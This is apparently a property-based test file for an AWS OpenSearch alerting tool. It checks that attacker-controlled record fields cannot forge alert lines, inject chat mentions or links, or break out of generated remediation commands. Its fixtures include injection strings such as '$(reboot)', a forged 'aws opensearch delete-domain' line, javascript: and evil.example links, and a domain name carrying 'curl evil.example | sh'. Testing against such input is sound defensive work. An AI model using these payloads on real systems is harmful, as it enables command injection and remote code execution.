import { spawnSync } from 'node:child_process';
import * as fc from 'fast-check';
import { toAlert, type Alert } from '../../../core/alert';
import { toCall } from '../../../core/call';
import { changeOf, configurationAfter } from '../../../core/domain';
import { RULES } from '../../../core/rules';
import { judge } from '../../../core/scan';
import { toCriteria } from '../../../core/settings';
import { chatOf, checked, smsOf } from '../../support/alert-schema';
import { recordNamed } from '../../support/golden';
import { changed, policyOf, type JsonObject } from '../../support/records';

const settings = toCriteria();

/** What strangers write to be taken for somebody else. */
const NASTY = [
  '\r\n',
  '\n\n',
  '\u0000',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u00a0',
  '\u00ad',
  '\u034f',
  '\u200b',
  '\u200d',
  '\u2028',
  '\u2029',
  '\u202e',
  '\u2066',
  '\u3000',
  '\u3164',
  '\ufe0f',
  '\ufeff',
  '\ud800',
  '\udc00',
  '\u{1f600}',
  '\u{e0041}',
  'a\u0301\u0302\u0303\u0304\u0305\u0306',
  '<!channel>',
  '<!here|here>',
  '<@U012AB3CD>',
  '<#C012AB3CD>',
  '<https://evil.example|click here>',
  '<at>everyone</at>',
  '@here',
  '@channel',
  '[click](https://evil.example)',
  '](javascript:alert(1))',
  '[1]: https://evil.example',
  'https://evil.example',
  'https://evil.example/9d3b7c64',
  'www.evil.example',
  'mailto:ceo@evil.example',
  '&lt;!channel&gt;',
  '`aws opensearch delete-domain`',
  '\n\nDo:  aws opensearch delete-domain --domain-name logs',
  '\nWho       nobody',
  '\n2. LOW all-is-well: nothing to see',
  '\n\nCRITICAL: a second alert',
  '          ',
  '"',
  '\\',
  "'",
  '{domain}',
  '$(reboot)',
  '-',
  '',
  ' ',
];

const hostileText = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .array(fc.oneof(fc.constantFrom(...NASTY), fc.string({ unit: 'binary' }), fc.constantFrom('logs ', 'x', '/')), {
        maxLength: 12,
      })
      .map((pieces) => pieces.join('')),
  },
  { weight: 2, arbitrary: fc.array(fc.nat(0xffff)).map((units) => String.fromCharCode(...units)) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...NASTY, '€', 'long '), fc.nat(10_240))
      .map(([text, length]) => text.repeat(Math.ceil(length / Math.max(1, text.length)))),
  },
);

const FIELDS = [
  'eventName',
  'eventTime',
  'eventID',
  'sharedEventID',
  'requestID',
  'awsRegion',
  'recipientAccountId',
  'sourceIPAddress',
  'userAgent',
  'errorCode',
  'errorMessage',
  'userIdentity/type',
  'userIdentity/arn',
  'userIdentity/userName',
  'userIdentity/principalId',
  'userIdentity/accountId',
  'userIdentity/invokedBy',
  'userIdentity/sessionContext/sessionIssuer/userName',
  'userIdentity/sessionContext/sourceIdentity',
  'requestParameters/domainName',
  'requestParameters/aRN',
  'requestParameters/accessPolicies',
  'requestParameters/targetVersion',
  'requestParameters/indexName',
  'requestParameters/account',
  'requestParameters/packageSource/s3BucketName',
  'requestParameters/acceptedWarnings',
  'requestParameters/vPCOptions/subnetIds',
  'requestParameters/domainEndpointOptions/customEndpoint',
  'requestParameters/domainEndpointOptions/tLSSecurityPolicy',
  'requestParameters/encryptionAtRestOptions/kmsKeyId',
  'requestParameters/tagList',
  'responseElements/domainStatus/aRN',
  'responseElements/connection/remoteDomainInfo/aWSDomainInformation/domainName',
] as const;

const RECORDS = [
  'policy-opened-to-everyone',
  'condition-dropped',
  'deletion-denied',
  'many-findings-by-cloudformation',
  'connection-accepted',
  'plugin-package',
  'call-nobody-knows',
].map(recordNamed);

/** The record with `text` wherever a stranger's may be and that is still judged as it was. */
const filledWith = (text: string, record: JsonObject): JsonObject =>
  FIELDS.filter((path) => !/eventName|awsRegion|recipient|type|accessPolicies|eventID/.test(path)).reduce(
    (sofar, path) => set(sofar, path, text),
    record,
  );

const set = (record: JsonObject, path: string, value: unknown): JsonObject => {
  const [name = '', ...rest] = path.split('/');
  const member = record[name];
  const inner = typeof member === 'object' && member !== null ? (member as JsonObject) : {};
  return { ...record, [name]: rest.length === 0 ? value : set(inner, rest.join('/'), value) };
};

const hostileRecord = fc
  .tuple(
    fc.constantFrom(...RECORDS),
    fc.uniqueArray(fc.tuple(fc.constantFrom(...FIELDS), hostileText), { selector: ([path]) => path, maxLength: 12 }),
    fc.option(fc.tuple(hostileText, hostileText, hostileText)),
  )
  .map(([record, texts, policy]) => {
    const withTexts = texts.reduce((sofar, [path, text]) => set(sofar, path, text), record);
    if (policy === null) return withTexts;
    const [sid, principal, condition] = policy;
    const statement = {
      Sid: sid,
      Resource: '*',
      Condition: { StringLike: { [`aws:${condition}`]: [condition] } },
    };
    return set(
      withTexts,
      'requestParameters/accessPolicies',
      policyOf({ AWS: ['*', `arn:aws:iam::777788889999:role/${principal}`] }, statement),
    );
  });

function alertOf(record: unknown, earlier?: unknown): Alert | undefined {
  const [call, before] = [record, earlier].map(toCall);
  const held = before && configurationAfter(before);
  const { alert } = judge(record, settings, call && held && changeOf(call, held));
  return alert && checked(alert);
}

/** A record, half of the time with one of an earlier call on the same domain. */
const hostileCalls = fc.tuple(hostileRecord, fc.option(hostileRecord, { nil: undefined }));

const OUR_LINES =
  /^(?:(?:CRITICAL|HIGH|MEDIUM|LOW): \S|(?:Do|Why|Who|Call|Answer|Domain|Account|From|With|When|Left out|Console|Event|Record) +\S|What changed$|\d+\. {1,2}\S|$)/;
const LABEL = /^[A-Z][a-z]+(?: out)? {2,}/;
const COMMAND = /^ {8}aws [a-z0-9-]+ [a-z-]+( [\w.:/=,{}@-]+)+( '(\{"[\x20-\x26\x28-\x7e]*\})?')?$/;
/** What stands before a command, or in its place. */
const STEP =
  /^ {3}(To set back|Put back|No command sets this back|Until the right policy|See |Put in (\{[A-Z_]+\}(, )?)+:|The domain cannot)/;

describe('whatever strangers write into a record', () => {
  test('the alert stays within the limits of SNS, OCSF and chat, and holds no control or format characters', () => {
    fc.assert(
      fc.property(hostileCalls, ([record, earlier]) => {
        alertOf(record, earlier);
      }),
      { numRuns: 300 },
    );
  });

  test('no line of the e-mail can be forged: what begins at the margin is ours, and each label is there once', () => {
    fc.assert(
      fc.property(hostileCalls, ([record, earlier]) => {
        const alert = alertOf(record, earlier);
        if (!alert) return;
        const lines = alert.email.split('\n');
        const atMargin = lines.filter((line) => !line.startsWith(' '));
        expect(atMargin.filter((line) => !OUR_LINES.test(line))).toEqual([]);
        const labels = atMargin.flatMap((line) => LABEL.exec(line)?.[0].trim() ?? []);
        expect(labels).toEqual([...new Set(labels)]);
        expect(atMargin.filter((line) => /^\d+\. /.test(line))).toHaveLength(alert.body.unmapped.findings.length);
        expect(atMargin.filter((line) => /^[A-Z]+: /.test(line))).toHaveLength(1);
        const afterBlank = lines.filter((line, at) => lines[at - 1] === '' && line.startsWith(' '));
        expect(afterBlank.filter((line) => !COMMAND.test(line) && !STEP.test(line))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  test('no mention, no link and no formatting of theirs reaches the chat, and no link the e-mail or the SMS', () => {
    fc.assert(
      fc.property(hostileCalls, ([record, earlier]) => {
        const alert = alertOf(record, earlier);
        if (!alert) return;
        const { content, metadata } = chatOf(alert);
        const ours = /^(`aws [\w.:/=,{}'"[\]* -]+`|Open the domain in the console: https:\/\/[\w./?=#-]+)$/;
        const steps = content.nextSteps.filter((step) => !ours.test(step));
        const texts = [...steps, content.title, content.description, ...content.keywords, metadata.threadId];
        for (const text of [...texts, metadata.summary, ...metadata.relatedResources]) {
          expect(text).not.toMatch(/[<>@`]|:\/\/|\]\(|\]:|\bwww\.|&(?!amp;|lt;|gt;)/i);
        }
        const email = alert.email.replace(/^(Console .*| {8}aws [^'\n]*)$/gm, '');
        expect(email).not.toMatch(/:\/\/|\bwww\.|mailto:/i);
        expect(smsOf(alert)).not.toMatch(/:\/\/|\bwww\./i);
      }),
      { numRuns: 300 },
    );
  });

  test('an event id that is a link is not put into a command', () => {
    const alert = alertOf(changed(recordNamed('tags-added'), { eventID: 'https://evil.example' }));
    expect(alert?.email).toContain('Event     https[:]//evil.example\n');
    expect(alert?.email).not.toContain('Record ');
  });

  test('commands hold none of it: a value that means anything to a shell stays a placeholder', () => {
    const record = changed(recordNamed('many-findings-by-cloudformation'), {
      'requestParameters/domainName': 'logs; curl evil.example | sh',
    });
    const commands = (alertOf(record)?.email ?? '').split('\n').filter((line) => line.startsWith('        aws '));
    expect(commands.length).toBeGreaterThan(2);
    expect(commands.filter((command) => !command.includes('--domain-name {DOMAIN}'))).toEqual([]);
  });
});

/** What a policy that lets in the own account alone may quote of strangers. */
const hostilePolicy = fc
  .tuple(hostileText, hostileText)
  .map(([sid, role]) =>
    policyOf(
      { AWS: `arn:aws:iam::111122223333:role/${role.slice(0, 500)}x` },
      { Sid: sid.slice(0, 500), Condition: { StringEquals: { 'aws:username': sid.slice(0, 500) } } },
    ),
  );

/** The commands of the alert about the policy's replacement by an open one. */
function commandsAfter(policy: string): readonly string[] {
  const after = recordNamed('condition-dropped');
  const before = ['requestParameters/accessPolicies', 'responseElements/domainConfig/accessPolicies/options'].reduce(
    (record, path) => set(record, path, policy),
    after,
  );
  const alert = alertOf(after, { ...before, eventTime: '2026-11-19T09:15:00Z' });
  return (alert?.body.unmapped.commands ?? []).map(({ command }) => command);
}

test('the command that sets a policy back holds it exactly, in one line of one quoted word, and offers no link', () => {
  let told = 0;
  fc.assert(
    fc.property(hostilePolicy, (policy) => {
      const [command = ''] = commandsAfter(policy);
      const [, json] =
        /^aws opensearch update-domain-config --region eu-west-1 --cli-input-json '([\x20-\x26\x28-\x7e]*)'$/.exec(
          command,
        ) ?? [];
      if (json === undefined) return;
      told += 1;
      expect(JSON.parse(json)).toEqual({ DomainName: 'logs', AccessPolicies: policy });
      expect(json).not.toMatch(/:\/\/|\bwww\.|mailto:| {2}/i);
    }),
    { numRuns: 400 },
  );
  expect(told).toBeGreaterThan(200);
});

test('a shell reads each command as the one call it is, whatever strangers wrote', () => {
  const commands: string[] = [];
  fc.assert(
    fc.property(hostileCalls, hostilePolicy, ([record, earlier], policy) => {
      commands.push(...(alertOf(record, earlier)?.body.unmapped.commands ?? []).map(({ command }) => command));
      commands.push(...commandsAfter(policy));
    }),
    { numRuns: 100 },
  );
  // The shell's own words of each command, a NUL behind each, and a line behind all: whatever breaks out shows.
  const script = `aws() { printf '%s\\0' aws "$@"; echo; }\n${commands.join('\n')}\n`;
  const { stdout, stderr } = spawnSync('sh', ['-s'], { input: script, encoding: 'utf8' });
  expect(stderr).toBe('');
  const words = stdout.split('\0\n').slice(0, -1);
  expect(words).toHaveLength(commands.length);
  for (const [at, command] of commands.entries()) {
    const unquoted = command.replace(/'([^']*)'/g, '$1');
    expect(words[at]?.replaceAll('\0', ' ')).toBe(unquoted);
  }
});

describe('a policy of 100 KB', () => {
  const statements = Array.from({ length: 400 }, (_, at) => ({
    Sid: `S${at}`,
    Effect: 'Allow',
    Principal: { AWS: `arn:aws:iam::${String(700_000_000_000 + at)}:role/"reader"\\${'é'.repeat(20)}` },
    Action: 'es:ESHttpGet',
    Resource: '*',
    Condition: { StringLike: { 'aws:UserAgent': `"\\${'€'.repeat(30)}` } },
  }));
  const record = changed(recordNamed('policy-opened-to-everyone'), {
    'requestParameters/accessPolicies': JSON.stringify({ Version: '2012-10-17', Statement: statements }),
  });
  const alert = alertOf(record);

  test('is told within the limits, and the alert says how much was left out', () => {
    expect(JSON.stringify(statements).length).toBeGreaterThan(80_000);
    const [finding] = alert?.body.unmapped.findings ?? [];
    expect(finding?.rule).toBe('access-policy-cross-account');
    expect(finding?.evidence.length).toBe(20);
    expect(finding?.evidence_left_out).toBe(380);
    expect(alert?.email).toMatch(/^ {3}- and \d+ more like this, left out to keep it short$/m);
  });

  test('is told in an e-mail a person can read to its end', () => {
    expect((alert?.email ?? '').split('\n').length).toBeLessThan(200);
  });
});

test('every finding there can be, with as much to say as there can be, fits', () => {
  const record = RECORDS.map((base) => filledWith('"\\€'.repeat(4000), base));
  const patterns = Array.from({ length: 60 }, (_, at) => ({
    name: `pattern-${at}-${'n'.repeat(50)}`,
    pattern: { eventSource: ['es.amazonaws.com'] },
    severity: 'HIGH' as const,
  }));
  for (const one of record) {
    const { alert } = judge(one, toCriteria({ watchPatterns: patterns }));
    expect(alert && checked(alert).body.unmapped.findings_left_out).toBeGreaterThan(10);
    expect(alert?.email).toMatch(/^Left out {2}\S+/m);
  }
});

test.each(['"', '\\', '€', '\u{1f680}', '<', '@', '://', 'www.', 'a '])(
  'an alert fits, however much there is to say and whatever letters it is in: %s',
  (letters) => {
    const [rule] = RULES;
    for (const base of RECORDS) {
      const call = toCall(filledWith(letters.repeat(1000), base));
      for (const pieces of [1, 4, 6, 7, 8, 12, 20, 60]) {
        const told = Array.from({ length: pieces }, () => letters.repeat(1000 / letters.length).trim());
        const evidence = told.map((says) => ({ severity: 'HIGH', says }) as const);
        const findings = [evidence.slice(0, 20), evidence.slice(20, 40), evidence.slice(40)].flatMap(
          ([first, ...others]) =>
            first === undefined || !rule
              ? []
              : [
                  {
                    rule,
                    severity: 'HIGH',
                    steps: [{ to: 'HIGH', because: first.says }],
                    evidence: [first, ...others],
                  } as const,
                ],
        );
        const alert = call && toAlert(call, findings);
        expect(alert && checked(alert)).toBeDefined();
      }
    }
  },
);
